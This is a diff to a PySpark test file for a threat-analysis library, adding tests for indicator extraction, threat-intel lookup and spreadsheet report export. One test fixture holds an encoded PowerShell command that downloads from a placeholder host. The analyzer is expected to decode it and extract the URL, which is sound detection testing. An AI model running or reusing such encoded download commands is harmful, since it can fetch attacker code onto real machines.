@@ -6,10 +6,11 @@ from urllib.parse import quote, quote_plus
 
 from pyspark.sql import functions as F
 
+from lamina import api
 from lamina.functions import checks
 from lamina.functions import text as T
 from lamina.functions import values as V
-from lamina.operators import enrich, extract, findings, history, layers, surveys
+from lamina.operators import enrich, extract, findings, history, layers, reports, surveys
 from lamina.plans import catalogue
 from lamina.sources import scripts, sinks
 from lamina.streaming import intake
@@ -107,10 +108,10 @@ def test_untidy_values_against_brute_force(spark, data, tmp_path):
     every = made + stored
     spark.createDataFrame(every, "id long, type string, value string").write.parquet(str(tmp_path / "findings.parquet"))
     ask = lambda name: catalogue.QUERIES[name](spark, str(tmp_path))
-    assert rows(ask("scope_skips_all")) == sorted([(i, brute_reason(k, v)) for i, k, v in every], key=str)
-    assert rows(ask("classify_all_findings")) == sorted([(i, brute_kind(v)) for i, _, v in every], key=str)
-    assert rows(ask("ip_categories_all")) == sorted([(i, v, checks.ip_category(v)) for i, k, v in every if k == "ip"], key=str)
-    links = {r["id"]: r for r in ask("provider_links_all").collect()}
+    assert rows(ask("scope_skips")) == sorted([(i, brute_reason(k, v)) for i, k, v in every], key=str)
+    assert rows(ask("classify_findings")) == sorted([(i, brute_kind(v)) for i, _, v in every], key=str)
+    assert rows(ask("ip_categories")) == sorted([(i, v, checks.ip_category(v)) for i, k, v in every if k == "ip"], key=str)
+    links = {r["id"]: r for r in ask("provider_links").collect()}
     assert len(links) == len(every)
     group = lambda k: "hash" if k in ("hash_md5", "hash_sha1", "hash_sha256") else "ip" if k == "ip_port" else k
     for i, k, v in every:
@@ -197,3 +198,40 @@ def test_as_of(spark):
     e = spark.createDataFrame([(1, "a", 5), (2, "a", 1), (3, "b", 9)], "id long, k string, t int")
     f = spark.createDataFrame([("a", 2, "x"), ("a", 4, "y"), ("b", 10, "z")], "k string, ft int, v string")
     assert rows(enrich.as_of(e, f, ["k"], "t", "ft").select("id", "fact_v")) == [(1, "y"), (2, None), (3, None)]
+
+
+def test_front_door(spark, data):
+    df = spark.createDataFrame([(1, "powershell -enc " + "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwBhAC4AdABlAHMAdAAvAHgA"), (2, None)], "id long, text string")
+    a = api.analyze(df)
+    assert a.layers.where("id = 1").count() == 2 and {r["value"] for r in a.findings.where("type = 'url'").collect()} == {"http://a.test/x"}
+    assert {r["id"]: r["layers"] for r in a.trees.collect()} == {1: 2, 2: 1}
+    cache = spark.createDataFrame([("otx", "ip", "198.51.100.7", "malicious", None, 100.0)], "source string, ioc_type string, value string, verdict string, detail string, fetched_at double")
+    asked = api.lookup(spark.createDataFrame([(" 198[.]51[.]100[.]7",), ("nothing",)], "value string"), cache, 200.0)
+    assert {r["type"] for r in asked.collect()} == {"ip"} and asked.count() == 7 and {r["source"] for r in asked.where("verdict = 'malicious'").collect()} == {"otx"}
+    tables = [spark.read.parquet(f"{data}/{n}.parquet") for n in ("analyses", "findings", "batches")]
+    assert api.newest(*tables, keep=5).count() == 5 and api.stored(*tables[:2], [1, 2])[0].count() == 2
+
+
+def test_workbook_is_read_again(spark):
+    import io
+    import xml.etree.ElementTree as E
+    import zipfile
+
+    rows_ = spark.createDataFrame([(1, "url", "=1+1 <&\x01 é"), (1, "ip", None), (2, "ip", "x")], "id long, type string, value string")
+    books = {r["id"]: bytes(r["content"]) for r in reports.workbooks(rows_, "id", ["type", "value"]).collect()}
+    z = zipfile.ZipFile(io.BytesIO(books[1]))
+    cells = [t.text or "" for t in E.fromstring(z.read("xl/worksheets/sheet1.xml")).iter("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}t")]
+    assert cells == ["type", "value", "ip", "", "url", "=1+1 <& é"] and set(books) == {1, 2} and reports.workbooks(rows_.limit(0), "id", ["type"]).count() == 0
+
+
+def test_report_parts(spark):
+    df = spark.createDataFrame([(["a", "b", "c"], {"x": "1", "y": "2"}, {"x": "1"}, " ", "env")], "i array<string>, m map<string,string>, h map<string,string>, s string, e string")
+    got = df.select(reports.brief(F.col("i"), 2), reports.own_variables(F.col("m"), F.col("h")), reports.key_of(F.col("s"), F.col("e")), reports.composed([F.lit("a"), F.lit(""), F.lit(None).cast("string"), F.lit("b")])).first()
+    assert tuple(got) == ("a, b (+1 more)", {"y": "2"}, "env", "a, b")
+
+
+def test_rate_windows_across_slices(spark):
+    times = [0.0, 3839.0, 3840.0, 3841.0, 3899.0, 3901.0, 7680.0, 7680.0]
+    df = spark.createDataFrame([(i, "p", t) for i, t in enumerate(times)] + [(99, None, 0.0)], "i int, p string, t double")
+    got = {r["i"]: r["in_window"] for r in enrich.rate_windows(df, "p", "t").collect()}
+    assert got == {**{i: sum(t - 60 <= u <= t for u in times) for i, t in enumerate(times)}, 99: 1}
